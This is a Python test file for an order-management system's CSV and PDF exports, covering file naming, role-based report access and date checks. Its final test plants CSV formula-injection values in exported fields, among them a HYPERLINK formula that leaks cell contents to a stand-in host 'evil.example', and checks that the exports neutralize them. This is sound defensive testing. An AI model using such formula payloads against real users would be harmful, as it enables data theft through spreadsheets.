"""Every list and report as a file: CSV streamed with every matching row (not a page),
PDF drawn by reportlab; files named after the store, the report and the period; the
reports readable by whom the roles say."""

import csv
import io

from oms.http.exports import NUMBER
from tests.support.http import API, bearer, customer_token, get, new_product, post, shift_opened_at, user_with_role


async def test_a_list_as_csv_has_every_matching_row_not_a_page(client) -> None:
    await client.patch(f"{API}/settings", json={"store_name": "Le Fournil"})
    bun = await new_product(client, name="Bun, \"soft\"", price="1.00", tax_rate="0", stock=500)
    for _ in range(7):
        last = await post(client, "/orders", {"items": [{"product_id": bun["id"], "quantity": 1}]}, 201)
    await get(client, "/orders", min_position=last["position"])
    response = await client.get(f"{API}/orders", params={"format": "csv", "per_page": "2", "status": "placed"})
    assert response.status == 200 and response.content_type == "text/csv"
    assert 'filename="le-fournil-orders-' in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(await response.text())))
    assert len(rows) == 7 and rows[0]["number"] == last["number"]  # newest first, as the list
    assert rows[0]["total"] == "1.00" and 'Bun, \\"soft\\"' in rows[0]["items"]

    products = await client.get(f"{API}/products", params={"format": "csv", "q": "nothing like this"})
    assert (await products.text()).splitlines() == [products_header(await products.text())]


def products_header(text: str) -> str:
    header = text.splitlines()[0]
    assert header.startswith("id,sku,name")
    return header


async def test_a_report_as_csv_and_pdf(client) -> None:
    bun = await new_product(client, name="Bun", price="1.00", tax_rate="0", stock=50)
    shift = await shift_opened_at(client, "2026-03-02T07:00:00Z")
    sold = await post(client, "/pos/sales", {"shift_id": shift["id"], "sold_at": "2026-03-02T10:00:00Z", "items": [
        {"product_id": bun["id"], "quantity": 4}], "payments": [{"method": "cash", "amount": "4.00"}]}, 201)
    params = {"from": "2026-03-01", "to": "2026-03-31", "group_by": "product", "min_position": str(sold["position"])}
    response = await client.get(f"{API}/reports/sales", params={**params, "format": "csv"})
    assert 'filename="oms-sales-by-product-2026-03-01_2026-03-31.csv"' in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(await response.text())))
    assert [(r["key"], r["label"], r["units"], r["net"]) for r in rows] == [
        (bun["id"], "Bun", "4", "4.00"), ("total", "", "4", "4.00")]
    pdf = await client.get(f"{API}/reports/sales", params={**params, "format": "pdf"})
    body = await pdf.read()
    assert pdf.content_type == "application/pdf" and body.startswith(b"%PDF-") and len(body) > 1000
    listed = await client.get(f"{API}/orders", params={"format": "pdf"})
    assert listed.content_type == "application/pdf" and (await listed.read()).startswith(b"%PDF-")


async def test_who_reads_which_report(client) -> None:
    _, cashier = await user_with_role(client, "cashier")
    _, viewer = await user_with_role(client, "viewer")
    customer = await customer_token(client, "ann")
    for token, path, status in ((cashier, "/reports/daily", 200), (cashier, "/reports/sales", 403),
                                (cashier, "/reports/dashboard", 403), (viewer, "/reports/sales", 200),
                                (viewer, "/reports/profit", 200), (customer, "/reports/daily", 403),
                                (customer, "/reports/dashboard", 403)):
        response = await client.get(API + path, headers=bearer(token))
        assert response.status == status, (path, status)


async def test_a_period_must_run_forwards(client) -> None:
    response = await client.get(f"{API}/reports/sales", params={"from": "2026-03-02", "to": "2026-03-01"})
    body = await response.json()
    assert response.status == 400 and "`to` must be on or after `from`" in body["error"]["message"]


FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+SUM(1,1)", "@cmd", "-2+3", "\tTAB", "\rCR")


def cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text, newline="")) for value in row]


async def test_no_exported_cell_runs_as_a_formula_and_amounts_stay_numbers(client, anon) -> None:
    for n, hostile in enumerate(FORMULAS):
        await anon.post(f"{API}/auth/signup", json={"username": f"mallory{n}", "password": "a long enough passphrase",
                                                    "email": f"m{n}@example.com", "full_name": hostile})
    product = await new_product(client, name="+SUM(1,1)", category="=1+1", price="1.00", tax_rate="0", stock=5)
    moved = await post(client, f"/products/{product['id']}/stock-adjustments", {"delta": -2, "reason": "@cmd"}, 201)
    customer = await post(client, "/customers", {"full_name": "-2+3", "credit_limit": "50.00"}, 201)
    shift = await post(client, "/shifts", {"register": "front", "opening_float": "0"}, 201)
    sold = await post(client, "/pos/sales", {"shift_id": shift["id"], "customer_id": customer["id"], "items": [
        {"product_id": product["id"], "quantity": 1}], "payments": [{"method": "cash", "amount": "1.00"}]}, 201)
    await get(client, "/orders", min_position=max(moved.get("position", 0), sold["position"]))
    files = {path: await (await client.get(API + path, params={"format": "csv", **params})).text() for path, params in [
        ("/customers", {}), ("/products", {}), ("/orders", {}),
        ("/reports/sales", {"group_by": "product", "from": "2000-01-01", "to": "2100-01-01"}),
        ("/reports/stock-valuation", {}), ("/reports/stock-movements", {"product_id": product["id"]}),
        ("/reports/customer-balances", {}),
    ]}
    for path, text in files.items():
        for value in cells(text):
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (path, value)
            assert not value.startswith("-") or NUMBER.fullmatch(value), (path, value)
    everything = "".join(files.values())
    for hostile in FORMULAS[:4]:  # (names with a leading tab or return are refused at the edge)
        assert "'" + hostile.replace('"', '""') in everything  # kept, as text
    assert "-2" in cells(files["/reports/stock-movements"])  # the units taken out: a number, not text
